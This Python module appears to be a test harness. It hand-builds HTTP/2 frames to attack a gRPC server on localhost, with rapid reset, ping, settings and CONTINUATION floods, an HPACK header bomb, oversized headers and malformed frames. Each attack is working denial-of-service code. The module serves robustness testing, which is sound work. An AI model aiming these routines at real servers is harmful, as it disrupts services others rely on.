"""HTTP/2 spoken by hand, as no library would: floods, broken frames, and silence.

Each attack opens one connection, does its worst for a bounded number of frames, and ends. What a
server may do about it is its own affair (GOAWAY, RST_STREAM, a closed connection), as long as it
serves everybody else.
"""

from __future__ import annotations

import contextlib
import random
import socket
import struct
from collections.abc import Callable, Iterator

__all__ = ["ATTACKS", "connection", "headers_block", "only_message", "request"]

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _PRIORITY, _RST, _SETTINGS, _PUSH, _PING, _GOAWAY, _WINDOW, _CONTINUATION = range(
    10
)
_END_STREAM, _END_HEADERS = 0x1, 0x4
_TIMEOUT_SECONDS = 5.0


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream)
    ) + payload


def _text(value: bytes) -> bytes:
    """Encode a string of HPACK, without Huffman's code."""
    if len(value) < 127:
        return bytes((len(value),)) + value
    rest, encoded = len(value) - 127, bytearray((127,))
    while rest >= 128:
        encoded.append(rest % 128 + 128)
        rest //= 128
    encoded.append(rest)
    return bytes(encoded) + value


def headers_block(method: str, *extra: tuple[bytes, bytes]) -> bytes:
    """Return the header block of a gRPC request, all in literals that nobody shall index."""
    fields = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", method.encode()),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        *extra,
    )
    return b"".join(b"\x00" + _text(name) + _text(value) for name, value in fields)


def request(stream: int, method: str, *extra: tuple[bytes, bytes], end: bool = False) -> bytes:
    """Return the frame that opens a stream."""
    flags = _END_HEADERS | (_END_STREAM if end else 0)
    return _frame(_HEADERS, flags, stream, headers_block(method, *extra))


def only_message(stream: int, body: bytes = b"") -> bytes:
    """Return the frame that ends a stream with its one message."""
    return _frame(_DATA, _END_STREAM, stream, struct.pack(">BI", 0, len(body)) + body)


@contextlib.contextmanager
def connection(port: int, *, settings: bytes = b"") -> Iterator[socket.socket]:
    """Open a connection that has said its preface."""
    with socket.create_connection(("127.0.0.1", port), timeout=_TIMEOUT_SECONDS) as made:
        made.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, settings))
        yield made


def _send_all(made: socket.socket, frames: Iterator[bytes], drain: bool = True) -> None:
    """Send frames in lumps, and read what comes, until the server has had enough."""
    lump = bytearray()
    for frame in frames:
        lump += frame
        if len(lump) > 16_384:
            made.sendall(lump)
            lump.clear()
            if drain:
                _drain(made)
    made.sendall(lump)


def _drain(made: socket.socket) -> None:
    made.setblocking(False)
    try:
        while made.recv(65_536):
            pass
    except BlockingIOError:
        pass
    finally:
        made.settimeout(_TIMEOUT_SECONDS)


def _rapid_reset(port: int, method: str, count: int) -> None:
    with connection(port) as made:
        _send_all(
            made,
            (
                request(2 * n + 1, method) + _frame(_RST, 0, 2 * n + 1, struct.pack(">I", 8))
                for n in range(count)
            ),
        )


def _ping_flood(port: int, _method: str, count: int) -> None:
    with connection(port) as made:
        _send_all(made, (_frame(_PING, 0, 0, struct.pack(">Q", n)) for n in range(count)))


def _unread_pings(port: int, _method: str, count: int) -> None:
    """Flood with pings, and never read the answers."""
    with connection(port) as made:
        _send_all(made, (_frame(_PING, 0, 0, b"12345678") for _ in range(count)), drain=False)


def _settings_flood(port: int, _method: str, count: int) -> None:
    window = struct.pack(">HI", 4, 65_535)
    with connection(port) as made:
        _send_all(made, (_frame(_SETTINGS, 0, 0, window * (n % 3)) for n in range(count)))


def _many_streams(port: int, method: str, count: int) -> None:
    """Open streams, and send none of their messages."""
    with connection(port) as made:
        _send_all(made, (request(2 * n + 1, method) for n in range(count)))


def _continuation_flood(port: int, method: str, count: int) -> None:
    """Never end the headers of a stream."""
    block = b"".join(b"\x00" + _text(b"x-%d" % n) + _text(b"y" * 100) for n in range(20))
    with connection(port) as made:
        made.sendall(_frame(_HEADERS, 0, 1, headers_block(method)))
        _send_all(made, (_frame(_CONTINUATION, 0, 1, block) for _ in range(count)))


def _empty_continuations(port: int, method: str, count: int) -> None:
    with connection(port) as made:
        made.sendall(_frame(_HEADERS, 0, 1, headers_block(method)))
        _send_all(made, (_frame(_CONTINUATION, 0, 1) for _ in range(count)))


def _empty_data(port: int, method: str, count: int) -> None:
    with connection(port) as made:
        made.sendall(request(1, method))
        _send_all(made, (_frame(_DATA, 0, 1) for _ in range(count)))


def _window_updates(port: int, method: str, count: int) -> None:
    """Raise windows by one byte each time, and at last beyond what is allowed."""
    with connection(port) as made:
        made.sendall(request(1, method))
        _send_all(made, (_frame(_WINDOW, 0, n % 2, b"\0\0\0\x01") for n in range(count)))
        made.sendall(_frame(_WINDOW, 0, 0, b"\x7f\xff\xff\xff"))


def _priorities(port: int, _method: str, count: int) -> None:
    payload = struct.pack(">IB", 0, 255)
    with connection(port) as made:
        _send_all(made, (_frame(_PRIORITY, 0, 2 * n + 1, payload) for n in range(count)))


def _huge_headers(port: int, method: str, count: int) -> None:
    """Open streams with far more metadata than is allowed, in one frame and in many."""
    big = (b"x-big", b"z" * 12_000)
    with connection(port) as made:
        for n in range(max(1, count // 100)):
            made.sendall(request(4 * n + 1, method, big, end=True))
            block = headers_block(method, *[(b"x-%d" % k, b"z" * 9_000) for k in range(8)])
            parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
            made.sendall(_frame(_HEADERS, _END_STREAM, 4 * n + 3, parts[0]))
            for part in parts[1:-1]:
                made.sendall(_frame(_CONTINUATION, 0, 4 * n + 3, part))
            made.sendall(_frame(_CONTINUATION, _END_HEADERS, 4 * n + 3, parts[-1]))
            _drain(made)


def _bomb(port: int, method: str, count: int) -> None:
    """Put a long header into the table once, and refer to it by one byte again and again."""
    entry = b"\x40" + _text(b"x-bomb") + _text(b"b" * 3_000)
    with connection(port) as made:
        made.sendall(_frame(_HEADERS, _END_HEADERS, 1, headers_block(method) + entry))
        _send_all(
            made,
            (
                _frame(_HEADERS, _END_HEADERS, 2 * n + 3, headers_block(method) + b"\xbe" * 4_000)
                for n in range(max(1, count // 100))
            ),
        )


def _garbage(port: int, _method: str, count: int) -> None:
    rng = random.Random(count)
    for first in (b"", _PREFACE, b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00"):
        with socket.create_connection(("127.0.0.1", port), timeout=_TIMEOUT_SECONDS) as made:
            made.sendall(first + rng.randbytes(2_000))


def _broken_frames(port: int, method: str, count: int) -> None:
    """Break a rule of the protocol in each connection."""
    rng = random.Random(count)
    block = headers_block(method)
    for broken in (
        _frame(_HEADERS, _END_HEADERS, 2, block),
        _frame(_HEADERS, _END_HEADERS, 0, block),
        _frame(_HEADERS, _END_HEADERS, 1, rng.randbytes(60)),
        _frame(_DATA, 0, 7, b"never opened"),
        _frame(_PUSH, _END_HEADERS, 1, struct.pack(">I", 2) + block),
        _frame(_RST, 0, 1, b"\0"),
        _frame(_PING, 0, 0, b"short"),
        _frame(_SETTINGS, 0, 0, b"12345"),
        _frame(_SETTINGS, 0, 0, struct.pack(">HI", 5, 1)),
        _frame(_CONTINUATION, 0, 1, block),
        _frame(99, 255, 1, b"who knows"),
        b"\xff\xff\xff" + bytes((_DATA, 0)) + b"\0\0\0\x01",
        request(1, method) + _frame(_DATA, _END_STREAM, 1, b"\x00\xff\xff\xff\xff"),
        request(1, method) + _frame(_DATA, _END_STREAM, 1, b"\x01\0\0\0\x02ab"),
        request(1, method, (b"grpc-timeout", b"-1x"), (b"grpc-encoding", b"none such"), end=True),
        request(1, method, (b"authorization", b"Bearer \x80\xff"), (b"x-bin", b"!!"), end=True),
    ):
        with connection(port) as made:
            made.sendall(broken)
            _drain(made)


ATTACKS: dict[str, Callable[[int, str, int], None]] = {
    "rapid reset": _rapid_reset,
    "ping flood": _ping_flood,
    "pings that nobody reads": _unread_pings,
    "settings flood": _settings_flood,
    "streams that say nothing": _many_streams,
    "headers without an end": _continuation_flood,
    "empty continuations": _empty_continuations,
    "empty data": _empty_data,
    "window updates": _window_updates,
    "priorities": _priorities,
    "huge headers": _huge_headers,
    "header bomb": _bomb,
    "garbage": _garbage,
    "broken frames": _broken_frames,
}
"""What each attack is called, and what it does to a port: with a method's path, and a number of
frames."""
